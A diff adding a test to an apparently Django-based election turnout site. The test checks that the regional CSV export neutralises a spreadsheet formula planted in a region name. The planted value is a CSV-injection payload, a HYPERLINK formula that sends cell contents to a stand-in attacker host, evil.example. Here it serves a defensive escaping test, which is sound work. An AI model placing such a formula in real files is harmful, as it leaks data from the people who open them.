@@ -181,3 +181,9 @@ def test_the_count_by_region_shows_once_staff_enter_it(client, seeded):
     row = html.select_one("#regional-results-heading").find_next("tbody").tr
     assert row.th.get_text(strip=True) == "город Астана"
     assert "80,00%" in row.get_text() and "нет данных" in row.get_text()
+
+
+def test_a_formula_typed_into_a_region_name_reaches_the_csv_as_text(client, seeded):
+    Region.objects.filter(slug="abai").update(name_en='=HYPERLINK("https://evil.example/?"&A1,"Official")')
+    rows = list(csv.reader(io.StringIO(client.get("/en/turnout/regions.csv").content.decode("utf-8-sig"))))
+    assert rows[1][0].startswith("'=HYPERLINK")
